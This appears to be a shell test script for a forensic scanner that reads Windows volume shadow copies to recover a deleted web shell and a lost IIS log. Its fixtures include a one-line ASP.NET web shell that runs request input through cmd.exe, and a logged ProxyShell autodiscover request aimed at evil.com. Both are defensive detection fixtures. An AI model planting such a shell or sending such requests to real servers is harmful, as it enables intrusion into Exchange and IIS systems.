#!/bin/sh
# t1750: `exhume scan` reads volume shadow copies (tests/tools/mkvss.py
# writes two real VSS stores).  State 1 and 2 hold a web shell in
# aspnet_client; the live volume has it deleted; iisstart.htm is the same
# file in both stores and live; state 2 adds an IIS log the live volume
# still has and one with a ProxyShell request the live volume lost.  A
# responder relies on:
#  - the shell, gone live, is one finding: path C:@{store-guid}\..., origin
#    "snapshot" with the newest store's creation time, exit status 1;
#  - iisstart.htm is scanned once (live): each store counts it identical to
#    live; the older store counts the shell identical to the newer store;
#  - the store files in System Volume Information are read as shadow copies,
#    not scanned as files; a store's log the live volume holds whole is not
#    read again, the deleted one is analysed: its ProxyShell line is a
#    finding from the snapshot;
#  - the bundle collects the shell from the store it was found in;
#  - --no-snapshots gives no snapshot finding and a note with the count;
#  - a damaged catalog is a note, the store files are scanned as files and
#    the live scan goes on; no image changes.
. "$TOP/tests/lib/tap.sh"
cat >"$TMP/s1.spec" <<'SPEC'
disk gpt size=20M
part ntfs start=2048 size=16M label=DATA
file \inetpub\wwwroot\iisstart.htm text:<html><body>IIS Windows Server</body></html>\r\n
file \inetpub\wwwroot\aspnet_client\old.aspx text:<%@ Page Language="C#" %><% var p = System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["q"]); %>\r\n
SPEC
cp "$TMP/s1.spec" "$TMP/s2.spec"
cat >>"$TMP/s2.spec" <<'SPEC'
file \inetpub\logs\LogFiles\W3SVC1\u_ex240215.log text:#Fields: date time cs-method cs-uri-stem c-ip\r\n2024-02-15 03:12:44 GET /aspnet_client/old.aspx 203.0.113.9\r\n
SPEC
cat >>"$TMP/s2.spec" <<'SPEC'
file \inetpub\logs\LogFiles\W3SVC1\u_ex240216.log text:#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) sc-status sc-substatus sc-win32-status time-taken\r\n2024-02-16 03:12:44 10.0.0.5 GET /autodiscover/autodiscover.json @evil.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.com 443 - 203.0.113.9 python-requests/2.25 200 0 0 15\r\n
SPEC
cp "$TMP/s2.spec" "$TMP/live.spec"
printf '%s\n' 'delete \inetpub\wwwroot\aspnet_client\old.aspx' \
    'delete \inetpub\logs\LogFiles\W3SVC1\u_ex240216.log' >>"$TMP/live.spec"
IMG=$TMP/disk.img
mkvss_image "$TMP/s1.spec" "$TMP/s2.spec" "$TMP/live.spec" "$IMG"
ok $? "a disk with two VSS stores builds"
# The same disk with its catalog's record type broken.
python3 - "$IMG" "$TMP/bad.img" <<'PY'
import struct, sys, uuid
b = bytearray(open(sys.argv[1], 'rb').read())
head = uuid.UUID('3808876b-c176-4e48-b7ae-04046e6cc752').bytes_le + \
    struct.pack('<II', 1, 2)
i = b.find(head)
b[i + 20:i + 24] = struct.pack('<I', 0x99)
open(sys.argv[2], 'wb').write(b)
PY
ok $? "a copy with a damaged catalog"
IMAGES="$IMG $TMP/bad.img"
S1="C:@{$VSS_GUID1}"
S2="C:@{$VSS_GUID2}"

run scan "$IMG" --full --out "$TMP/full" --bundle "$TMP/full.zip" --quiet
[ "$RC" -eq 1 ]; ok $? "scan --full: exit 1 (the shell in a snapshot)"
F=$TMP/full/findings.jsonl
[ "$(grep -c 'old.aspx' "$F")" -eq 1 ]; ok $? "the shell is one finding"
grep 'old.aspx' "$F" | grep -F '"path":"'"$S2"'\\inetpub\\wwwroot\\aspnet_client\\old.aspx"' |
    grep -F '"origin":"snapshot","origin_time":"'"$VSS_TIME2"'"' | grep -q '"level":"alert"'
ok $? "... at C:@{guid}\\..., origin snapshot with the newer store's time"
grep -qF "note: $S2 (shadow copy 2 of 2, $VSS_TIME2): 4 streams walked, 2 identical to live, 0 identical to a newer shadow copy, 2 scanned, 1 findings" "$TMP/err"
ok $? "store 2: iisstart.htm and the kept log identical to live, the shell and the lost log scanned"
grep -qF "note: $S1 (shadow copy 1 of 2, $VSS_TIME1): 2 streams walked, 1 identical to live, 1 identical to a newer shadow copy, 0 scanned, 0 findings" "$TMP/err"
ok $? "store 1: iisstart.htm identical to live, the shell to store 2: nothing scanned"
grep -qF "note: C: shadow copies: 2 found, 2 examined, 0 skipped; 4 streams not scanned again (identical)" "$TMP/err"
ok $? "the volume's note: found, examined, skipped, identical"
grep -q "passed over 3 store files (read as shadow copies)" "$TMP/err"
ok $? "the catalog and store files are not scanned as files"
grep -q '^streams: 8 seen, 4 scanned' "$TMP/full/summary.txt"
ok $? "4 streams scanned in all: 2 live, the shell and the lost log once"
unzip -p "$TMP/full.zip" manifest.jsonl | grep -F '"path":"'"$S2"'\\inetpub' |
    grep -q '"status":"collected"'
ok $? "the bundle holds the shell, read from its store"

run scan "$IMG" --out "$TMP/scope" --quiet
grep -qF "note: $S2: logs: 1 read, 1 not read as the live volume holds them whole, 1 findings" "$TMP/err"
ok $? "scope scan: the store's IIS log held whole live is not read again, the lost one is"
grep '"check":"ProxyShell/autodiscover"' "$TMP/scope/findings.jsonl" |
    grep -F '"path":"'"$S2"'\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex240216.log"' |
    grep -qF '"origin":"snapshot","origin_time":"'"$VSS_TIME2"'"'
ok $? "scope scan: the lost log's ProxyShell request, from the snapshot"
! grep -v 'old.aspx\|u_ex240216' "$TMP/scope/findings.jsonl" | grep -q '"origin":"snapshot"'
ok $? "scope scan: nothing else comes from a snapshot"
grep -q "$S2"'\\\\inetpub\\\\wwwroot\\\\aspnet_client\\\\old.aspx' "$TMP/scope/findings.jsonl"
ok $? "scope scan: the shell from the snapshot"

run scan "$IMG" --full --no-snapshots --out "$TMP/none" --quiet
[ "$RC" -eq 0 ]; ok $? "--no-snapshots: exit 0"
! grep -q '"origin":"snapshot"' "$TMP/none/findings.jsonl"
ok $? "--no-snapshots: no finding from a snapshot"
grep -q "note: C: 2 shadow copies found, not scanned (--no-snapshots)" "$TMP/err"
ok $? "--no-snapshots: a note says how many were found"

run scan "$TMP/bad.img" --full --out "$TMP/bad" --quiet
[ "$RC" -eq 0 ]; ok $? "damaged catalog: the live scan runs, exit 0"
grep -q "note: C: shadow copies: catalog not read: .*VSS catalog damaged.*its store files are scanned as files" "$TMP/err"
ok $? "damaged catalog: a note"
grep -q '^streams: 5 seen, 5 scanned' "$TMP/bad/summary.txt"
ok $? "damaged catalog: the 3 store files are scanned as files"
report_unchanged
# A store whose NTFS cannot be opened (its state's $MFT and $MFTMirr
# records 0 broken before it was stored) cannot be examined: a note names
# it and the run is incomplete, never complete.
unmountable() {	# unmountable IMAGE: breaks partition 1's $MFT record 0
	python3 - "$1" <<'PY'
import struct, sys
with open(sys.argv[1], 'r+b') as f:
    base = 2048 * 512
    f.seek(base)
    bs = f.read(512)
    cluster = struct.unpack_from('<H', bs, 11)[0] * bs[13]
    for field in (0x30, 0x38):          # $MFT, $MFTMirr
        f.seek(base + struct.unpack_from('<Q', bs, field)[0] * cluster)
        f.write(b'XXXX')
PY
}
VSS_STATE1_HOOK=unmountable mkvss_image "$TMP/s1.spec" "$TMP/s2.spec" \
    "$TMP/live.spec" "$TMP/notntfs.img"
ok $? "a disk whose older store is not NTFS builds"
IMAGES="$IMAGES $TMP/notntfs.img"
run scan "$TMP/notntfs.img" --out "$TMP/notntfs"
[ "$RC" -eq 1 ] || [ "$RC" -eq 3 ]; ok $? "a store that cannot be opened: the run goes on (got $RC)"
grep -q 'shadow copy .*not scanned' "$TMP/err"; ok $? "a store that cannot be opened: a note names it"
grep -qi 'partial\|incomplete\|a shadow copy could not be examined' "$TMP/notntfs/summary.txt"
ok $? "a store that cannot be opened: the record says the run is incomplete"
done_testing
